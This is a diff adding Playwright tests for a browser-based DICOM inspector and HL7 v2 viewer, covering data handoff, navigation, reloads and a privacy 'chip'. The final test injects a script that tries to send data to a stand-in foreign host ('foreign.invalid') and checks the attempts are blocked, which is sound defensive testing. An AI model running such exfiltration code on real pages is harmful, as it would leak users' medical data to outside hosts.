@@ -1,0 +1,95 @@
+"""Tools in one document: data go from one to another in memory, and come back."""
+
+from playwright.sync_api import BrowserContext, Page, expect
+
+from tests.browser.test_tools import CT, ORU, choose
+
+
+def tab(page: Page, name: str) -> None:
+    page.locator(".bench-tab").get_by_role("button", name=name).first.click()
+
+
+def send_to(page: Page, name: str) -> None:
+    page.locator(".bench-bar > .btn").filter(has_text=name).click()
+
+
+def test_data_go_to_another_tool_and_back_twice(page: Page) -> None:
+    page.goto("/en/tools/dicom-inspector/", wait_until="networkidle")
+    choose(page, CT)
+    expect(page.get_by_text("CT_small.dcm")).to_be_visible()
+    send_to(page, "HL7 v2 viewer")
+    expect(page.get_by_role("alert").filter(visible=True)).to_contain_text("This is not HL7 v2")
+    for _time in range(2):
+        page.go_back()
+        expect(page.get_by_role("heading", level=1)).to_have_text("DICOM inspector")
+        expect(page.get_by_text("CT_small.dcm")).to_be_visible()
+        page.go_forward()
+        expect(page.get_by_role("heading", level=1)).to_have_text("HL7 v2 viewer")
+        expect(page.get_by_role("alert").filter(visible=True)).to_contain_text("This is not HL7 v2")
+    assert page.title().startswith("HL7 v2 viewer ·")
+
+
+def test_what_is_open_is_shown_with_its_size_and_can_be_forgotten(page: Page) -> None:
+    page.goto("/en/tools/dicom-inspector/", wait_until="networkidle")
+    choose(page, CT)
+    expect(page.locator(".bench-tab")).to_contain_text("DICOM inspector · 38 KB")
+    page.get_by_role("button", name="Forget what DICOM inspector holds").click()
+    expect(page.get_by_text("CT_small.dcm")).to_have_count(0)
+    expect(page.locator(".bench-bar")).to_be_hidden()
+    choose(page, CT)
+    expect(page.get_by_text("CT_small.dcm")).to_be_visible()
+
+
+def test_a_reload_gives_a_clean_page_after_asking(page: Page) -> None:
+    asked: list[str] = []
+    page.on("dialog", lambda dialog: asked.append(dialog.type))
+    page.goto("/en/tools/hl7-viewer/", wait_until="networkidle")
+    page.reload()
+    assert asked == []
+    page.locator("textarea").click()
+    page.keyboard.insert_text(ORU)
+    choose(page, CT)
+    page.reload()
+    assert asked == ["beforeunload"]
+    expect(page.locator(".bench-bar")).to_be_hidden()
+
+
+def test_a_tool_that_was_closed_does_not_take_what_is_dropped_later(page: Page) -> None:
+    page.goto("/en/", wait_until="networkidle")
+    for _time in range(3):
+        page.get_by_role("button", name="HL7 v2 viewer: sample").click()
+        page.get_by_role("button", name="Forget what HL7 v2 viewer holds").click()
+        page.go_back()
+    assert len(page.workers) <= 2  # one spare for each tool, none that works for nobody
+
+
+def test_a_tool_opened_from_the_start_page_has_its_help_and_its_language_link(page: Page) -> None:
+    page.goto("/en/", wait_until="networkidle")
+    page.get_by_role("button", name="DICOM inspector: sample").click()
+    article = page.locator("article.tool:visible")
+    expect(article.get_by_role("heading", name="What it does")).to_be_visible()
+    expect(article).to_contain_text("Not for diagnosis or treatment.")
+    expect(page.get_by_role("link", name="Deutsch")).to_have_attribute("href", "/de/tools/dicom-inspector/")
+    expect(page.get_by_role("heading", level=1)).to_be_focused()
+
+
+def test_the_chip_tells_whether_the_browser_locks_the_page(page: Page) -> None:
+    page.goto("/en/tools/dicom-inspector/", wait_until="networkidle")
+    chip = page.locator("summary.chip")
+    expect(chip).to_have_text("Nothing is open · locked by your browser")
+    choose(page, CT)
+    expect(page.get_by_text("CT_small.dcm")).to_be_visible()
+    expect(chip).to_have_text("0 requests seen since you opened something · locked by your browser")
+
+
+def test_the_chip_counts_what_a_tampered_page_tries(context: BrowserContext) -> None:
+    page = context.new_page()  # one that may complain
+    page.goto("/en/tools/dicom-inspector/", wait_until="networkidle")
+    choose(page, CT)
+    expect(page.get_by_text("CT_small.dcm")).to_be_visible()
+    before = page.url
+    page.evaluate("fetch('/en/?DATA').catch(() => {}); location.href = 'https://foreign.invalid/?DATA'")
+    page.locator("summary.chip").click()
+    expect(page.get_by_text("Attempts stopped: 2")).to_be_visible()
+    assert page.url == before
+    expect(page.get_by_text("CT_small.dcm")).to_be_visible()
